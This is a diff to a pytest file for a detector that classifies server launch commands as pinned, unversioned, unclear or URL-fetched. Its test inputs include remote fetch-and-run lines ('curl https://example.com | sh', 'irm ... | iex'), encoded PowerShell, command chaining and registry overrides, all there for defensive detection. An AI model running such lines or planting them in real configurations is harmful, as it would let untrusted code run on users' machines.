@@ -116,9 +116,21 @@ def test_an_image_is_found_behind_options_with_and_without_values(line: str) -> 
         "deno run -A server.ts",
         "npx ./server",
         "uvx --from /srv/checkout command",
-        "env PORT=1 python server.py",
+        "env PORT=1 UV_INDEX=x python server.py",
         "run -- python server.py",
         "bash server.sh",
+        "node dist/index.js --runtime=docker",
+        "python server.py /srv/docker/",
+        "python -m server -m",
+        "go run ./server",
+        "dnx Acme.Server@1.2.3 --yes -- --port 1",
+        "yarn",
+        "go run example.com/server@v1.2.3",
+        "go build example.com/server@latest",
+        "powershell -ExecutionPolicy Bypass -File server.ps1",
+        "pwsh server.ps1",
+        "nohup python server.py",
+        "cmd /d /c server.bat /srv/files",
     ],
 )
 def test_a_plain_command_has_no_package(line: str) -> None:
@@ -147,7 +159,7 @@ def test_a_plain_command_has_no_package(line: str) -> None:
         ("npm --unknown exec pkg@1.2.3", FloatingKind.UNCLEAR),
         ("npx -yz pkg@1.2.3", FloatingKind.UNCLEAR),
         ("npx -y", FloatingKind.UNCLEAR),
-        ("npx -y --package", FloatingKind.NO_VERSION),
+        ("npx -y --package", FloatingKind.UNCLEAR),
         ("uvx pkg", FloatingKind.NO_VERSION),
         ("uvx pkg[cli]", FloatingKind.NO_VERSION),
         ("uvx pkg@latest", FloatingKind.RANGE),
@@ -181,18 +193,111 @@ def test_a_commit_pins_a_repository() -> None:
     ("script", "kind"),
     [
         ("npx -y pkg", FloatingKind.NO_VERSION),
-        ("cd /srv && exec npx -y pkg 2>/dev/null", FloatingKind.NO_VERSION),
+        ("cd /srv && exec npx -y pkg", FloatingKind.NO_VERSION),
+        ("DEBUG=1 npx -y pkg", FloatingKind.NO_VERSION),
+        ("command npx -y pkg", FloatingKind.NO_VERSION),
         ("npx -y pkg@1.2.3", None),
+        ("DEBUG=1 npx -y pkg@1.2.3", None),
         ("python server.py", None),
         ("exec", None),
-        ("npx 'pkg", None),
         ("", None),
+        ("npx -y pkg@1.2.3 2>/dev/null", FloatingKind.UNCLEAR),
+        ("npx -y pkg@1.2.3; npx evil", FloatingKind.UNCLEAR),
+        ("npx 'pkg", FloatingKind.UNCLEAR),
+        ("eval 'n''px evil'", FloatingKind.UNCLEAR),
+        ("if true; then npx evil; fi", FloatingKind.UNCLEAR),
+        ("curl https://example.com | sh", FloatingKind.UNCLEAR),
+        ("echo a#b; npx evil", FloatingKind.UNCLEAR),
+        ("true\nnpx evil", FloatingKind.UNCLEAR),
+        ("$RUN evil", FloatingKind.UNCLEAR),
+        ("`echo npx` evil", FloatingKind.UNCLEAR),
+        ("/usr/bin/np? evil", FloatingKind.UNCLEAR),
+        ("sudo {npx,evil}", FloatingKind.UNCLEAR),
+        ("npm_config_registry=https://example.com npx pkg@1.2.3", FloatingKind.UNCLEAR),
+        ("unknown 'npx evil'", FloatingKind.UNCLEAR),
+        ("a" * 100 + "; b", FloatingKind.UNCLEAR),
     ],
 )
 def test_a_package_is_found_in_the_script_of_a_shell(script: str, kind: FloatingKind | None) -> None:
     found = floating_reason(Launch(command="/bin/bash", args=("-lc", script)))
 
     assert (found.kind if found else None) is kind
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        ("bash", "-cx", "npx -y evil"),
+        ("bash", "-xec", "npx -y evil"),
+        ("nohup", "npx", "-y", "evil"),
+        ("setsid", "npx", "-y", "evil"),
+        ("time", "npx", "-y", "evil"),
+        ("xargs", "npx", "-y", "evil"),
+        ("busybox", "sh", "-c", "npx -y evil"),
+        ("wsl", "-e", "npx", "-y", "evil"),
+        ("corepack", "pnpm", "dlx", "evil"),
+        ("python3.12", "-m", "pipx", "run", "evil"),
+        ("python", "-m", "uv", "tool", "run", "evil"),
+        ("pwsh", "-NoProfile", "-Command", "npx", "-y", "evil"),
+    ],
+)
+def test_a_package_without_a_version_is_found_in_a_hiding_place(line: tuple[str, ...]) -> None:
+    found = floating_reason(Launch(command=line[0], args=line[1:]))
+
+    assert found is not None
+    assert found.kind is FloatingKind.NO_VERSION
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        ("env", "-S", "npx -y evil"),
+        ("env", "-Snpx -y evil"),
+        ("env", "-S", "npx evil", "npx", "pkg@1.2.3"),
+        ("env", "UV_INDEX_URL=https://example.com", "uvx", "pkg==1.2.3"),
+        ("unknown", "npx", "-y", "evil"),
+        ("unknown", "--run=npx -y evil"),
+        ("unknown", "npx evil", "--", "npx", "pkg@1.2.3"),
+        ("unknown", "bash", "-c", "curl https://example.com | sh"),
+        ("bash", "-c", "-x", "npx evil"),
+        ("fish", "--command=curl https://example.com | sh"),
+        ("su", "me", "-c", "curl https://example.com | sh"),
+        ("corepack", "pnpm@9", "dlx", "evil"),
+        ("cmd", "/c", "npx pkg@1.2.3 & npx evil"),
+        ("cmd", "/cnpx", "evil"),
+        ("powershell", "irm https://example.com | iex"),
+        ("powershell", "-enc", "AAAA"),
+        ("python", "-mpipx", "run", "evil"),
+        ("python", "-X", "dev", "server.py", "npx"),
+        ("node", "/usr/lib/npx-cli.js", "evil"),
+        ("docker", "run", f"node@{DIGEST}", "npx", "-y", "evil"),
+        ("uv", "run", "npx", "-y", "evil"),
+        ("npx", "-p", "pkg@1.2.3", "npx", "evil"),
+        ("npx", "--registry", "https://example.com", "pkg@1.2.3"),
+        ("npm", "exec", "pkg@1.2.3", "--registry=https://example.com"),
+        ("uvx", "--index-url", "https://example.com", "pkg==1.2.3"),
+        ("uvx", "--with-requirements", "all.txt", "pkg==1.2.3"),
+        ("pipx", "run", "--pip-args=-i https://example.com", "pkg==1.2.3"),
+        ("deno", "run", "jsr:@acme/server"),
+        ("go", "run", "example.com/server@latest"),
+        ("dnx", "Acme.Server", "--yes"),
+        ("dnx", "Acme.Server@1.2.3", "--source", "https://example.com"),
+        ("npm", "--silent", "init", "evil"),
+        ("yarn", "create", "evil"),
+        ("bash", "-co", "pipefail", "curl https://example.com | sh"),
+        ("fish", "--init-command", "curl https://example.com | sh"),
+    ],
+)
+def test_what_may_fetch_anything_is_unclear(line: tuple[str, ...]) -> None:
+    found = floating_reason(Launch(command=line[0], args=line[1:]))
+
+    assert found is not None
+    assert found.kind is FloatingKind.UNCLEAR
+
+
+@pytest.mark.parametrize("line", ["deno run https://example.com/a.ts", "uv run https://example.com/a.py"])
+def test_a_script_at_an_address_can_change(line: str) -> None:
+    assert kind_of(line) is FloatingKind.URL
 
 
 def test_a_package_is_found_behind_several_wrappers() -> None:
@@ -239,6 +344,7 @@ def test_only_a_tag_without_a_digest_is_a_weak_pin() -> None:
         ("cmd /c npx -y pkg", "1.2.3", "npx -y pkg@1.2.3"),
         ("npx https://example.com/server.tgz", "1.2.3", ""),
         ("npx --unknown pkg", "1.2.3", ""),
+        ("npx -y --package", "1.2.3", ""),
         ("python server.py", "1.2.3", ""),
         ("npx ./server", "1.2.3", "npx ./server"),
     ],
